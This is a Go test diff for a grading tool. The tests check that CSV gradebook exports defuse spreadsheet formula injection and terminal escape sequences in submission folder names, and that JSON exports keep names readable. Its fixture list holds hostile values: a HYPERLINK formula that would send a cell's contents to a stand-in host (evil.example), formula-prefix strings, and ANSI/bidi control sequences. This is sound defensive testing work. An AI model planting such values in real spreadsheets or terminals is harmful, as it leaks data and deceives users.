@@ -7,9 +7,13 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+
+	"netcourse/grader/internal/textsafe"
 )
 
 var update = flag.Bool("update", false, "rewrite golden files")
@@ -111,5 +115,88 @@ func TestJSON(t *testing.T) {
 	JSON(&buf, &Gradebook{})
 	if buf.String() != "[]\n" {
 		t.Errorf("empty gradebook = %q, want []", buf.String())
+	}
+}
+
+// hostileNames are submission folders a spreadsheet would run as formulas,
+// and one that would drive a terminal.
+var hostileNames = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	"@SUM(1+1)",
+	"+1+1",
+	"-1+1",
+	"\t=1+1",
+	"\r\n=1+1",
+	"\x1b]0;pwned\a\x1b[2J\u009b\u202eeve\xff",
+}
+
+func hostileBook() *Gradebook {
+	gb := &Gradebook{IDs: []string{"1.1"}}
+	for _, n := range hostileNames {
+		gb.Rows = append(gb.Rows, Row{Submission: n, Max: 10, Status: BuildError, Detail: n + "/1.1-tcpclient/client.go:1:1: expected 'package'",
+			Exercises: map[string]Score{"1.1": {Status: "build_error", MaxScore: 10, Message: n}}})
+	}
+	return gb
+}
+
+// TestCSVNeutralisesFormulas: no cell a submission named starts a formula,
+// and nothing in the file acts on a terminal; the name is still readable.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	var buf bytes.Buffer
+	if err := CSV(&buf, hostileBook()); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(buf.String(), "\x1b\a\u009b\u202e") || !utf8.Valid(buf.Bytes()) {
+		t.Errorf("the CSV holds raw control characters:\n%q", buf.String())
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != len(hostileNames)+1 {
+		t.Fatalf("%d records, want %d", len(recs), len(hostileNames)+1)
+	}
+	for i, rec := range recs[1:] {
+		name := hostileNames[i]
+		for j, c := range rec {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("row %d column %d starts a formula: %q", i+1, j, c)
+			}
+		}
+		want := textsafe.Escape(name)
+		if strings.ContainsRune("=+-@\t\r", rune(want[0])) {
+			want = "'" + want
+		}
+		want = strings.ReplaceAll(want, "\r\n", "\n") // as encoding/csv reads a quoted line break
+		if rec[0] != want {
+			t.Errorf("submission cell = %q, want %q", rec[0], want)
+		}
+		if !strings.HasPrefix(rec[len(rec)-1], want) {
+			t.Errorf("detail cell = %q, want it to start %q", rec[len(rec)-1], want)
+		}
+	}
+}
+
+// TestJSONKeepsTrueNames: JSON is not evaluated, so a name keeps its
+// first character; only what would act on a terminal is escaped.
+func TestJSONKeepsTrueNames(t *testing.T) {
+	var buf bytes.Buffer
+	if err := JSON(&buf, hostileBook()); err != nil {
+		t.Fatal(err)
+	}
+	var rows []Row
+	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range rows {
+		if want := textsafe.Escape(hostileNames[i]); r.Submission != want || r.Exercises["1.1"].Message != want {
+			t.Errorf("row %d: submission %q, message %q, want %q", i, r.Submission, r.Exercises["1.1"].Message, want)
+		}
+	}
+	if rows[0].Submission != hostileNames[0] {
+		t.Errorf("a formula-like name changed in JSON: %q", rows[0].Submission)
+	}
+	if strings.ContainsRune(buf.String(), '\u009b') || strings.ContainsRune(buf.String(), '\u202e') {
+		t.Error("the JSON holds a raw C1 control or bidi override")
 	}
 }
